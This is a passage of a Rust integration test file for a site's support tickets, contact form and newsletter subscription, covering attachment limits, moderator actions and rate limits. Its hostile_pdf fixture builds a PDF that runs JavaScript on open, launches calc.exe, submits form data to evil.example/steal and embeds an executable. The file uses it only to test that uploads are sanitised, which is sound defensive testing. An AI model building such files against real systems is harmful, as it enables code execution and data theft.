//! Support (rules 33 to 36): tickets with their files, the moderators' answers and the "still have a problem"
//! reopening; the contact form; the footer's subscription and its one-click unsubscribe; the web popup; the moderator
//! home's queue counts. Every limit on both sides; bad input changes nothing; the decisions that race run at once.

use chrono::Duration;
use reqwest::multipart::{Form, Part};
use sea_orm::{EntityTrait, PaginatorTrait};
use serde_json::{Value, json};

use crate::{
    helpers::{Options, TestApp, problem, spawn_app_with},
    moderation::MODERATOR,
    wizard::{Member, jpeg_with_orientation_6, png},
};

const MIB: usize = 1024 * 1024;

async fn app() -> TestApp {
    spawn_app_with(Options {
        admin: Some(MODERATOR),
        support_email: Some("help@sagpan.test".into()),
        ..Options::default()
    })
    .await
}

/// A real one-page PDF saying "Sagpan help" (lopdf), its content stream padded with a comment of `padding` bytes;
/// `add` may add to the document, given the catalog's and the page's ids.
fn one_page_pdf(padding: usize, add: impl FnOnce(&mut lopdf::Document, lopdf::ObjectId, lopdf::ObjectId)) -> Vec<u8> {
    use lopdf::{Document, Object, Stream, dictionary};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! {"Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica"});
    let mut content = b"BT /F1 24 Tf 72 700 Td (Sagpan help) Tj ET\n%".to_vec();
    content.resize(content.len() + padding, b'x');
    let content_id = doc.add_object(Stream::new(dictionary! {}, content));
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id,
        "Resources" => dictionary! {"Font" => dictionary! {"F1" => font_id}},
    });
    let pages = dictionary! {
        "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    };
    doc.objects.insert(pages_id, Object::Dictionary(pages));
    let catalog_id = doc.add_object(dictionary! {"Type" => "Catalog", "Pages" => pages_id});
    doc.trailer.set("Root", catalog_id);
    add(&mut doc, catalog_id, page_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// A real one-page PDF of exactly `size` bytes.
fn pdf(size: usize) -> Vec<u8> {
    let mut padding = 0i64;
    for _ in 0..10 {
        let bytes = one_page_pdf(usize::try_from(padding).unwrap(), |_, _, _| {});
        let off = i64::try_from(size).unwrap() - i64::try_from(bytes.len()).unwrap();
        if off == 0 {
            return bytes;
        }
        padding += off;
    }
    panic!("no PDF of {size} bytes");
}

fn file(name: &str, bytes: Vec<u8>) -> Part {
    Part::bytes(bytes).file_name(name.to_owned())
}

/// A ticket form: topic and message (each left out when `None`) and files.
fn ticket_form(topic: Option<&str>, message: Option<&str>, files: Vec<Part>) -> Form {
    let mut form = Form::new();
    if let Some(topic) = topic {
        form = form.text("topic", topic.to_owned());
    }
    if let Some(message) = message {
        form = form.text("message", message.to_owned());
    }
    for part in files {
        form = form.part("attachments", part);
    }
    form
}

fn reply_form(ticket_id: i64, message: &str, files: Vec<Part>) -> Form {
    let mut form = Form::new().text("ticketId", ticket_id.to_string()).text("message", message.to_owned());
    for part in files {
        form = form.part("attachments", part);
    }
    form
}

fn contact_form(fields: &[(&str, String)]) -> Form {
    let mut form = Form::new();
    for (name, value) in fields {
        form = form.text(name.to_string(), value.clone());
    }
    form
}

fn good_contact() -> Vec<(&'static str, String)> {
    vec![
        ("topicId", "2".into()),
        ("fullName", "Meera Patel".into()),
        ("email", "meera@example.com".into()),
        ("countryCode", "+91".into()),
        ("mobile", "9825012345".into()),
        ("message", "મારો ફોટો દેખાતો નથી. My photo does not show.".into()),
    ]
}

fn replaced(mut fields: Vec<(&'static str, String)>, name: &str, value: Option<&str>) -> Vec<(&'static str, String)> {
    fields.retain(|(n, _)| *n != name);
    if let Some(value) = value {
        let name: &'static str = Box::leak(name.to_owned().into_boxed_str());
        fields.push((name, value.to_owned()));
    }
    fields
}

impl TestApp {
    async fn multipart(&self, token: Option<&str>, path: &str, form: Form) -> reqwest::Response {
        let mut request = self.client.post(self.url(path)).header("Accept-Language", "en").multipart(form);
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        request.send().await.unwrap()
    }

    async fn authed(&self, method: reqwest::Method, token: &str, path: &str, body: Option<Value>) -> reqwest::Response {
        let mut request =
            self.client.request(method, self.url(path)).bearer_auth(token).header("Accept-Language", "en");
        if let Some(body) = body {
            request = request.json(&body);
        }
        request.send().await.unwrap()
    }

    async fn open_ticket(&self, m: &Member, topic: &str, files: Vec<Part>) -> Value {
        let r = self
            .multipart(Some(&m.token), "/api/Ticket/NewTicket", ticket_form(Some(topic), Some("Help"), files))
            .await;
        assert_eq!(r.status(), 200);
        r.json().await.unwrap()
    }

    async fn tickets_of(&self, m: &Member) -> Value {
        let r = self.authed(reqwest::Method::POST, &m.token, "/api/Ticket/Get", Some(json!({}))).await;
        assert_eq!(r.status(), 200);
        r.json().await.unwrap()
    }

    async fn ticket_count(&self) -> u64 {
        entity::ticket::Entity::find().count(&self.state.db).await.unwrap()
    }

    async fn attachment_count(&self) -> u64 {
        entity::attachment::Entity::find().count(&self.state.db).await.unwrap()
    }

    /// Files under the storage's `attachments/` folder.
    fn stored_attachments(&self) -> usize {
        std::fs::read_dir(self.data_dir.join("photos").join("attachments")).map(|d| d.count()).unwrap_or(0)
    }

    async fn figures(&self, moderator: &str) -> Value {
        let r = self.authed(reqwest::Method::GET, moderator, "/api/Admin/QueueFigures", None).await;
        assert_eq!(r.status(), 200);
        r.json().await.unwrap()
    }

    async fn audit_actions(&self, moderator: &str) -> Vec<String> {
        let r = self.authed(reqwest::Method::GET, moderator, "/api/Admin/AuditLog?pageSize=50", None).await;
        let body: Value = r.json().await.unwrap();
        body["result"].as_array().unwrap().iter().map(|a| a["action"].as_str().unwrap().to_owned()).collect()
    }
}

fn statuses(list: &Value) -> Vec<(String, String)> {
    list["result"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["topic"].as_str().unwrap().to_owned(), t["status"].as_str().unwrap().to_owned()))
        .collect()
}

#[tokio::test]
async fn a_file_input_left_empty_attaches_nothing() {
    let app = app().await;
    let m = app.member().await;
    // A browser sends an empty file input as an empty part with an empty file name.
    let opened = app.open_ticket(&m, "Nothing chosen", vec![file("", Vec::new())]).await;
    assert_eq!(opened["messages"][0]["attachments"], json!([]));
    assert_eq!(app.stored_attachments(), 0);
}

#[tokio::test]
async fn a_ticket_is_answered_by_a_moderator_and_a_reply_opens_it_again() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    // Any member may ask for help, whatever their profile status: this one has not finished the wizard.
    let m = app.member().await;
    let opened = app
        .open_ticket(&m, "My photo does not show", vec![file("a.png", png(40, 30)), file("scan.pdf", pdf(2048))])
        .await;
    assert_eq!(opened["status"], "open");
    assert_eq!(opened["message"], "Your ticket has been sent. We will tell you when a moderator answers.");

    let files = opened["messages"][0]["attachments"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(files[0]["fileName"], "a.png");
    assert_eq!(files[0]["contentType"], "image/png");
    assert_eq!(files[1]["contentType"], "application/pdf");
    for (f, kind) in files.iter().zip(["image/png", "application/pdf"]) {
        let r = app.get(f["url"].as_str().unwrap()).await;
        assert_eq!(r.status(), 200);
        assert_eq!(r.headers()["content-type"], kind);
        assert!(r.headers()["content-disposition"].to_str().unwrap().contains("filename="));
    }
    let id = opened["ticketId"].as_i64().unwrap();

    // The moderators' queue and the home's count.
    let queue: Value =
        app.authed(reqwest::Method::GET, &moderator, "/api/Admin/Tickets", None).await.json().await.unwrap();
    assert_eq!(queue["totalCount"], 1);
    assert_eq!(queue["result"][0]["member"]["memberId"], m.id);
    let figures = app.figures(&moderator).await;
    let tickets = figures["queues"].as_array().unwrap().iter().find(|q| q["queue"] == "tickets").unwrap().clone();
    assert_eq!(tickets["count"], 1);
    assert!(tickets["oldestWaitingSince"].is_string());

    // An answer with a file: answered, the member is told.
    let r = app
        .multipart(
            Some(&moderator),
            "/api/Admin/Ticket/Answer",
            reply_form(id, "Please upload it again.", vec![file("how.png", png(20, 20))]),
        )
        .await;
    assert_eq!(r.status(), 200);
    let answered: Value = r.json().await.unwrap();
    assert_eq!(answered["status"], "answered");
    assert_eq!(answered["member"]["memberId"], m.id);
    let thread: Value =
        app.authed(reqwest::Method::GET, &m.token, &format!("/api/Ticket/{id}"), None).await.json().await.unwrap();
    assert_eq!(thread["messages"].as_array().unwrap().len(), 2);
    assert_eq!(thread["messages"][1]["fromModerator"], true);
    assert_eq!(thread["messages"][1]["attachments"][0]["fileName"], "how.png");
    assert!(thread.get("member").is_none(), "a member's answer does not name the member back");
    let notes: Value = app
        .authed(reqwest::Method::POST, &m.token, "/api/Notification", Some(json!({"pageIndex": 1, "pageSize": 50})))
        .await
        .json()
        .await
        .unwrap();
    assert!(notes["result"].as_array().unwrap().iter().any(|n| n["title"] == "Your ticket has been answered"));

    // Closed by the moderator; closing again is refused and changes nothing.
    let close = json!({"ticketId": id});
    assert_eq!(
        app.authed(reqwest::Method::POST, &moderator, "/api/Admin/Ticket/Close", Some(close.clone())).await.status(),
        200
    );
    problem(app.authed(reqwest::Method::POST, &moderator, "/api/Admin/Ticket/Close", Some(close)).await, 422).await;

    // "Still have a problem": the member's reply opens it again.
    let r = app
        .multipart(Some(&m.token), "/api/Ticket/TicketReply", reply_form(id, "It still does not show.", vec![]))
        .await;
    assert_eq!(r.status(), 200);
    let reopened: Value = r.json().await.unwrap();
    assert_eq!(reopened["status"], "open");
    assert_eq!(reopened["message"], "Your message has been added and the ticket is open again.");
    assert_eq!(reopened["messages"].as_array().unwrap().len(), 3);

    let actions = app.audit_actions(&moderator).await;
    assert!(actions.contains(&"answer_ticket".to_owned()) && actions.contains(&"close_ticket".to_owned()));
}

#[tokio::test]
async fn the_ticket_list_puts_open_first_then_answered_then_closed_newest_first() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let m = app.member().await;
    let mut ids = Vec::new();
    for topic in ["first", "second", "third", "fourth"] {
        ids.push(app.open_ticket(&m, topic, vec![]).await["ticketId"].as_i64().unwrap());
        app.state.clock.advance(Duration::minutes(1));
    }
    let close = |id: i64| json!({"ticketId": id});
    app.authed(reqwest::Method::POST, &moderator, "/api/Admin/Ticket/Close", Some(close(ids[3]))).await;
    let r = app.multipart(Some(&moderator), "/api/Admin/Ticket/Answer", reply_form(ids[0], "Done.", vec![])).await;
    assert_eq!(r.status(), 200);
    let list = app.tickets_of(&m).await;
    let expected: Vec<(String, String)> =
        [("third", "open"), ("second", "open"), ("first", "answered"), ("fourth", "closed")]
            .iter()
            .map(|(t, s)| (t.to_string(), s.to_string()))
            .collect();
    assert_eq!(statuses(&list), expected);
    assert_eq!(list["totalCount"], 4);
    // Paged, with the search text on topics.
    let page: Value = app
        .authed(reqwest::Method::POST, &m.token, "/api/Ticket/Get", Some(json!({"pageIndex": 2, "pageSize": 3})))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(statuses(&page), vec![("fourth".to_owned(), "closed".to_owned())]);
    assert_eq!(page["hasMore"], false);
    let found: Value = app
        .authed(reqwest::Method::POST, &m.token, "/api/Ticket/Get", Some(json!({"searchText": "SEC"})))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(statuses(&found), vec![("second".to_owned(), "open".to_owned())]);
    let body = problem(
        app.authed(reqwest::Method::POST, &m.token, "/api/Ticket/Get", Some(json!({"searchText": "s".repeat(101)})))
            .await,
        400,
    )
    .await;
    assert!(body["errors"]["searchText"].is_array());
    // A moderator's ticket queue of another status.
    let closed: Value = app
        .authed(reqwest::Method::GET, &moderator, "/api/Admin/Tickets?status=closed", None)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(statuses(&closed), vec![("fourth".to_owned(), "closed".to_owned())]);
}

#[tokio::test]
async fn bad_tickets_are_refused_and_store_nothing() {
    let app = app().await;
    let m = app.member().await;
    let other = app.member().await;
    let new = "/api/Ticket/NewTicket";

    let body = problem(app.multipart(Some(&m.token), new, ticket_form(None, Some("Help"), vec![])).await, 400).await;
    assert_eq!(body["errors"]["topic"][0], "This field is required.");
    let body = problem(app.multipart(Some(&m.token), new, ticket_form(Some("Photo"), None, vec![])).await, 400).await;
    assert_eq!(body["errors"]["message"][0], "This field is required.");
    // Both sides of each limit.
    let t101 = "t".repeat(101);
    let body =
        problem(app.multipart(Some(&m.token), new, ticket_form(Some(&t101), Some("x"), vec![])).await, 400).await;
    assert_eq!(body["errors"]["topic"][0], "Enter at most 100 characters.");
    let m4001 = "m".repeat(4001);
    let body =
        problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some(&m4001), vec![])).await, 400).await;
    assert_eq!(body["errors"]["message"][0], "Enter at most 4000 characters.");
    // A 4th file, a file over 5 MiB, a renamed executable, a broken picture.
    let four = (0..4).map(|i| file(&format!("{i}.png"), png(10, 10))).collect();
    problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), four)).await, 413).await;
    let big = vec![file("big.pdf", pdf(5 * MIB + 1))];
    let body = problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), big)).await, 413).await;
    assert_eq!(body["detail"], "Each attached file can be at most 5 MB. Nothing was saved.");
    let six = vec![file("six.pdf", pdf(6 * MIB))];
    problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), six)).await, 413).await;
    let exe = vec![file("photo.png", b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode".to_vec())];
    let body = problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), exe)).await, 415).await;
    assert_eq!(body["detail"], "Only JPEG or PNG pictures or PDF files can be attached. Nothing was saved.");
    let mut broken = png(50, 50);
    broken.truncate(60);
    problem(
        app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), vec![file("b.png", broken)])).await,
        422,
    )
    .await;
    // The second file of three is bad: the first is not kept either.
    let mixed = vec![file("a.png", png(10, 10)), file("x.exe", b"MZ".to_vec()), file("c.png", png(10, 10))];
    problem(app.multipart(Some(&m.token), new, ticket_form(Some("x"), Some("y"), mixed)).await, 415).await;
    assert_eq!(app.ticket_count().await, 0);
    assert_eq!(app.attachment_count().await, 0);
    assert_eq!(app.stored_attachments(), 0);

    // The other side of each limit: 100 and 4000 characters, three files, one of exactly 5 MiB.
    let t100 = "t".repeat(100);
    let m4000 = "m".repeat(4000);
    let three = vec![file("a.png", png(10, 10)), file("b.pdf", pdf(5 * MIB)), file("c.png", png(10, 10))];
    let r = app.multipart(Some(&m.token), new, ticket_form(Some(&t100), Some(&m4000), three)).await;
    assert_eq!(r.status(), 200);
    let ticket: Value = r.json().await.unwrap();
    let id = ticket["ticketId"].as_i64().unwrap();
    assert_eq!(app.attachment_count().await, 3);
    assert_eq!(app.stored_attachments(), 3);

    // Another member's ticket, and one that does not exist, are not found; a reply to them stores nothing.
    problem(app.authed(reqwest::Method::GET, &other.token, &format!("/api/Ticket/{id}"), None).await, 404).await;
    let reply = "/api/Ticket/TicketReply";
    problem(
        app.multipart(Some(&other.token), reply, reply_form(id, "mine?", vec![file("a.png", png(5, 5))])).await,
        404,
    )
    .await;
    problem(app.multipart(Some(&m.token), reply, reply_form(999_999, "hello", vec![])).await, 404).await;
    assert!(app.tickets_of(&other).await["result"].as_array().unwrap().is_empty());
    assert_eq!(app.attachment_count().await, 3);
    assert_eq!(app.stored_attachments(), 3);
    // Signed in or not at all; a moderator is not a member.
    problem(app.multipart(None, new, ticket_form(Some("x"), Some("y"), vec![])).await, 401).await;
    let moderator = app.moderator_token().await;
    problem(app.multipart(Some(&moderator), new, ticket_form(Some("x"), Some("y"), vec![])).await, 403).await;
    problem(app.authed(reqwest::Method::GET, &m.token, "/api/Admin/Tickets", None).await, 403).await;

    // A file's URL: a wrong signature or an expired URL is not found.
    let url = ticket["messages"][0]["attachments"][0]["url"].as_str().unwrap().to_owned();
    assert_eq!(app.get(&url).await.status(), 200);
    let last = if url.ends_with('0') { '1' } else { '0' };
    let forged = format!("{}{last}", &url[..url.len() - 1]);
    problem(app.get(&forged).await, 404).await;
    app.state.clock.advance(Duration::hours(1));
    problem(app.get(&url).await, 404).await;
}

/// A PDF that runs a script when opened, on page events and from a link, launches a program, submits a form and
/// carries an embedded file, as the probe's hostile ticket did.
fn hostile_pdf() -> Vec<u8> {
    use lopdf::{Object, Stream, dictionary};
    one_page_pdf(0, |doc, catalog_id, page_id| {
        let script =
            doc.add_object(Stream::new(dictionary! {}, b"app.alert('pwned'); this.exportDataObject({});".to_vec()));
        let embedded = doc.add_object(Stream::new(dictionary! {"Type" => "EmbeddedFile"}, b"MZ evil program".to_vec()));
        let open_action = dictionary! {"Type" => "Action", "S" => "JavaScript", "JS" => script};
        let launch = dictionary! {"Type" => "Action", "S" => "Launch", "F" => Object::string_literal("calc.exe")};
        let submit = dictionary! {"S" => "SubmitForm", "F" => Object::string_literal("https://evil.example/steal")};
        let link = doc.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 100.into(), 100.into()],
            "A" => launch,
        });
        let attachment = doc.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "FileAttachment", "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
            "FS" => dictionary! {"Type" => "Filespec", "F" => Object::string_literal("a.exe"), "EF" => dictionary! {"F" => embedded}},
        });
        if let Ok(Object::Dictionary(page)) = doc.get_object_mut(page_id) {
            page.set("Annots", vec![link.into(), attachment.into()]);
            page.set(
                "AA",
                dictionary! {"O" => dictionary! {"S" => "JavaScript", "JS" => Object::string_literal("app.beep(0)")}},
            );
        }
        if let Ok(Object::Dictionary(catalog)) = doc.get_object_mut(catalog_id) {
            catalog.set("OpenAction", open_action);
            catalog.set(
                "Names",
                dictionary! {
                    "JavaScript" => dictionary! {"Names" => vec![Object::string_literal("x"), script.into()]},
                    "EmbeddedFiles" => dictionary! {"Names" => vec![Object::string_literal("a.exe"), embedded.into()]},
                },
            );
            catalog.set(
                "AcroForm",
                dictionary! {"Fields" => Vec::<Object>::new(), "XFA" => Object::string_literal("<xdp/>")},
            );
            catalog.set("AA", dictionary! {"WC" => submit});
        }
    })
}

#[tokio::test]
async fn an_attached_pdf_loses_its_active_content_and_is_served_as_a_sandboxed_download() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let m = app.member().await;
    let hostile = hostile_pdf();
    for marker in ["/JavaScript", "/OpenAction", "/Launch", "/EmbeddedFile", "/AcroForm", "/SubmitForm", "app.alert"] {
        assert!(String::from_utf8_lossy(&hostile).contains(marker), "the test file carries {marker}");
    }
    let opened = app.open_ticket(&m, "My bank statement", vec![file("statement.pdf", hostile)]).await;
    let url = opened["messages"][0]["attachments"][0]["url"].as_str().unwrap().to_owned();
    let served = app.get(&url).await;
    assert_eq!(served.status(), 200);
    let headers = served.headers().clone();
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"), "a download");
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("sandbox") && csp.contains("default-src 'none'"), "{csp}");
    let bytes = served.bytes().await.unwrap();
    let text = String::from_utf8_lossy(&bytes);
    for marker in [
        "/JavaScript",
        "/OpenAction",
        "/Launch",
        "/EmbeddedFile",
        "/AcroForm",
        "/XFA",
        "/SubmitForm",
        "/AA",
        "app.alert",
        "evil",
    ] {
        assert!(!text.contains(marker), "{marker} left in the stored PDF");
    }
    // Still the same readable page.
    let doc = lopdf::Document::load_mem(&bytes).unwrap();
    assert_eq!(doc.get_pages().len(), 1);
    assert!(doc.extract_text(&[1]).unwrap().contains("Sagpan help"));
    // What a moderator opens is the same file.
    let thread: Value = app
        .authed(reqwest::Method::GET, &moderator, &format!("/api/Admin/Ticket/{}", opened["ticketId"]), None)
        .await
        .json()
        .await
        .unwrap();
    let for_moderator = thread["messages"][0]["attachments"][0]["url"].as_str().unwrap().to_owned();
    assert_eq!(app.get(&for_moderator).await.bytes().await.unwrap(), bytes);

    // A file that only starts like a PDF is refused, and nothing is stored.
    let mut fake = b"%PDF-1.4\n".to_vec();
    fake.resize(2048, b' ');
    let r = app
        .multipart(
            Some(&m.token),
            "/api/Ticket/NewTicket",
            ticket_form(Some("x"), Some("y"), vec![file("fake.pdf", fake)]),
        )
        .await;
    problem(r, 422).await;
    assert_eq!(app.attachment_count().await, 1);
}

#[tokio::test]
async fn an_attached_photo_loses_what_the_camera_wrote_in_it() {
    let app = app().await;
    let m = app.member().await;
    let with_exif = jpeg_with_orientation_6(80, 60);
    assert!(with_exif.windows(6).any(|w| w == b"Exif\0\0"));
    let ticket = app.open_ticket(&m, "photo", vec![file("IMG_0001.JPG", with_exif)]).await;
    let f = &ticket["messages"][0]["attachments"][0];
    assert_eq!(f["fileName"], "IMG_0001.jpg");
    let bytes = app.get(f["url"].as_str().unwrap()).await.bytes().await.unwrap();
    assert!(!bytes.windows(6).any(|w| w == b"Exif\0\0"), "the EXIF block is gone");
    let image = image::load_from_memory(&bytes).unwrap();
    assert_eq!((image.width(), image.height()), (60, 80), "the orientation was applied");
}

#[tokio::test]
async fn two_moderators_closing_one_ticket_at_once_decide_once() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let m = app.member().await;
    let id = app.open_ticket(&m, "race", vec![]).await["ticketId"].as_i64().unwrap();
    let close =
        || app.authed(reqwest::Method::POST, &moderator, "/api/Admin/Ticket/Close", Some(json!({"ticketId": id})));
    let (a, b) = tokio::join!(close(), close());
    let mut codes = [a.status().as_u16(), b.status().as_u16()];
    codes.sort_unstable();
    assert_eq!(codes, [200, 422]);
    let actions = app.audit_actions(&moderator).await;
    assert_eq!(actions.iter().filter(|a| *a == "close_ticket").count(), 1);
}

#[tokio::test]
async fn the_contact_form_is_stored_mailed_to_support_and_handled_once() {
    let app = app().await;
    let moderator = app.moderator_token().await;
    let topics: Value = app.get_in("/api/Home/Name", "gu").await.json().await.unwrap();
    assert_eq!(topics["result"][1]["name"], "મારી પ્રોફાઇલ");
    let mut fields = good_contact();
    let form =
        fields.drain(..).fold(Form::new(), |f, (n, v)| f.text(n, v)).part("attachments", file("s.png", png(30, 30)));
    let r = app.multipart(None, "/api/Home/Contact", form).await;
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["message"], "Your enquiry has been sent. Our team will answer you by e-mail.");
    let mail = app.delivered_to("help@sagpan.test", 1).await;
    assert!(mail[0].contains("Enquiry: My profile"));
    assert!(mail[0].contains("Meera Patel"));

    let list: Value =
        app.authed(reqwest::Method::GET, &moderator, "/api/Admin/Enquiries", None).await.json().await.unwrap();
    assert_eq!(list["totalCount"], 1);
    let enquiry = &list["result"][0];
    assert_eq!(enquiry["topic"], "My profile");
    assert_eq!(enquiry["email"], "meera@example.com");
    assert_eq!(enquiry["language"], "en");
    let url = enquiry["attachments"][0]["url"].as_str().unwrap();
    assert_eq!(app.get(url).await.status(), 200);
    let figures = app.figures(&moderator).await;
    assert!(figures["queues"].as_array().unwrap().iter().any(|q| q["queue"] == "enquiries" && q["count"] == 1));

    // Handled once, even by two moderators at once.
    let id = enquiry["enquiryId"].as_i64().unwrap();
    let handle =
        || app.authed(reqwest::Method::POST, &moderator, "/api/Admin/Enquiry/Handle", Some(json!({"enquiryId": id})));
    let (a, b) = tokio::join!(handle(), handle());
    let mut codes = [a.status().as_u16(), b.status().as_u16()];
    codes.sort_unstable();
    assert_eq!(codes, [200, 422]);
    let open: Value =
        app.authed(reqwest::Method::GET, &moderator, "/api/Admin/Enquiries", None).await.json().await.unwrap();
    assert_eq!(open["totalCount"], 0);
    let handled: Value = app
        .authed(reqwest::Method::GET, &moderator, "/api/Admin/Enquiries?handled=true", None)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(handled["totalCount"], 1);
    assert!(app.audit_actions(&moderator).await.contains(&"handle_enquiry".to_owned()));
    problem(app.authed(reqwest::Method::GET, &app.member().await.token, "/api/Admin/Enquiries", None).await, 403).await;
}

#[tokio::test]
async fn a_bad_contact_form_gets_its_field_errors_and_stores_nothing() {
    let app = app().await;
    let send = |fields: Vec<(&'static str, String)>| app.multipart(None, "/api/Home/Contact", contact_form(&fields));
    type Fields = Vec<(&'static str, String)>;
    let cases: Vec<(Fields, &str, &str)> = vec![
        (replaced(good_contact(), "topicId", None), "topicId", "This field is required."),
        (replaced(good_contact(), "topicId", Some("99")), "topicId", "Choose one of the options."),
        (replaced(good_contact(), "fullName", Some(&"ન".repeat(31))), "fullName", "Enter at most 30 characters."),
        (
            replaced(good_contact(), "email", Some(&format!("{}@example.com", "a".repeat(245)))),
            "email",
            "Enter at most 256 characters.",
        ),
        (replaced(good_contact(), "email", Some("meera@")), "email", "Enter a valid e-mail address."),
        (replaced(good_contact(), "mobile", Some("123456789")), "mobile", "The number needs at least 10 digits."),
        (
            replaced(replaced(good_contact(), "countryCode", Some("+44")), "mobile", Some("12345")),
            "mobile",
            "The number needs at least 6 digits.",
        ),
        (replaced(good_contact(), "mobile", Some(&"9".repeat(16))), "mobile", "The number can have at most 15 digits."),
        (replaced(good_contact(), "message", Some(&"m".repeat(4001))), "message", "Enter at most 4000 characters."),
        (replaced(good_contact(), "message", None), "message", "This field is required."),
    ];
    for (fields, field, text) in cases {
        let body = problem(send(fields).await, 400).await;
        assert_eq!(body["errors"][field][0], text, "{field}");
    }
    let exe = contact_form(&good_contact()).part("attachments", file("cv.pdf", b"MZ\x90\x00".to_vec()));
    problem(app.multipart(None, "/api/Home/Contact", exe).await, 415).await;
    // A text field where a file belongs, even an empty one, is not a file.
    for text in ["", "not a file"] {
        let field = contact_form(&good_contact()).text("attachments", text);
        problem(app.multipart(None, "/api/Home/Contact", field).await, 415).await;
    }
    assert_eq!(entity::enquiry::Entity::find().count(&app.state.db).await.unwrap(), 0);
    assert_eq!(app.stored_attachments(), 0);

    // The other side of each limit.
    let edge = replaced(
        replaced(
            replaced(
                replaced(good_contact(), "fullName", Some(&"ન".repeat(30))),
                "email",
                Some(&format!("{}@example.com", "a".repeat(244))),
            ),
            "countryCode",
            Some("+44"),
        ),
        "mobile",
        Some("123456"),
    );
    let edge = replaced(edge, "message", Some(&"m".repeat(4000)));
    assert_eq!(send(edge).await.status(), 200);
    let longest = replaced(good_contact(), "mobile", Some(&"9".repeat(15)));
    assert_eq!(send(longest).await.status(), 200);
    assert_eq!(entity::enquiry::Entity::find().count(&app.state.db).await.unwrap(), 2);
}

#[tokio::test]
async fn the_contact_form_needs_the_captcha_when_it_is_on() {
    let app = spawn_app_with(Options { captcha: true, ..Options::default() }).await;
    let body = problem(app.multipart(None, "/api/Home/Contact", contact_form(&good_contact())).await, 400).await;
    assert_eq!(body["errors"]["captchaResponse"][0], "This field is required.");
    let wrong = contact_form(&replaced(good_contact(), "captchaResponse", Some("bm90IGEgcGF5bG9hZA==")));
    problem(app.multipart(None, "/api/Home/Contact", wrong).await, 400).await;
    assert_eq!(entity::enquiry::Entity::find().count(&app.state.db).await.unwrap(), 0);
}

#[tokio::test]
async fn a_subscription_is_stored_once_and_its_link_unsubscribes() {
    let app = app().await;
    let app = &app;
    let subscribe = |email: &str| {
        let path = format!("/api/Home/Subscribe?emailAddress={}", urlencode(email));
        async move { app.post_query(&path).await }
    };
    let r = subscribe("Reader@Example.com").await;
    assert_eq!(r.status(), 200);
    let first: Value = r.json().await.unwrap();
    assert_eq!(first["message"], "You are subscribe successfully!");
    let mail = app.delivered_to("reader@example.com", 1).await;
    // A repeat answers the same and sends nothing more.
    let again: Value = subscribe("reader@example.com").await.json().await.unwrap();
    assert_eq!(again, first);
    assert_eq!(entity::subscriber::Entity::find().count(&app.state.db).await.unwrap(), 1);

    let message = mail_parser::MessageParser::default().parse(mail[0].as_bytes()).unwrap();
    let text = message.body_text(0).unwrap().into_owned();
    let link = regex::Regex::new(r"https://sagpan\.test/unsubscribe\?email=([^&\s]+)&token=([0-9a-f]+)").unwrap();
    let caps = link.captures(&text).expect("an unsubscribe link");
    let email = caps[1].replace("%40", "@").replace("%2E", ".");
    let token = caps[2].to_owned();
    let wrong = json!({"email": "someone@example.com", "token": token});
    problem(app.post("/api/Home/Unsubscribe", &wrong).await, 404).await;
    let right = json!({"email": email, "token": token});
    let r = app.post("/api/Home/Unsubscribe", &right).await;
    assert_eq!(r.status(), 200);
    assert_eq!(app.post("/api/Home/Unsubscribe", &right).await.status(), 200, "twice answers the same");
    let row = entity::subscriber::Entity::find().one(&app.state.db).await.unwrap().unwrap();
    assert!(row.unsubscribed_at.is_some());
    // Subscribing again is welcome, with a new confirmation.
    assert_eq!(subscribe("reader@example.com").await.status(), 200);
    assert_eq!(app.delivered_to("reader@example.com", 2).await.len(), 2);

    let body = problem(subscribe("not-an-address").await, 400).await;
    assert_eq!(body["errors"]["emailAddress"][0], "Enter a valid e-mail address.");
    let body = problem(app.post_query("/api/Home/Subscribe").await, 400).await;
    assert_eq!(body["errors"]["emailAddress"][0], "This field is required.");
    let long = format!("{}@example.com", "a".repeat(245));
    problem(subscribe(&long).await, 400).await;
    assert_eq!(subscribe(&format!("{}@example.com", "a".repeat(244))).await.status(), 200);
}

#[tokio::test]
async fn public_forms_are_limited_per_address() {
    let app = app().await;
    for n in 0..20 {
        let r = app.post_query(&format!("/api/Home/Subscribe?emailAddress=reader{n}%40example.com")).await;
        assert_eq!(r.status(), 200);
    }
    let r = app.post_query("/api/Home/Subscribe?emailAddress=late%40example.com").await;
    assert!(r.headers().contains_key("retry-after"));
    problem(r, 429).await;
    problem(app.multipart(None, "/api/Home/Contact", contact_form(&good_contact())).await, 429).await;
    assert_eq!(entity::subscriber::Entity::find().count(&app.state.db).await.unwrap(), 20);
}

fn urlencode(text: &str) -> String {
    text.replace('@', "%40").replace('+', "%2B")
}

fn popup(link: &str) -> Value {
    json!({
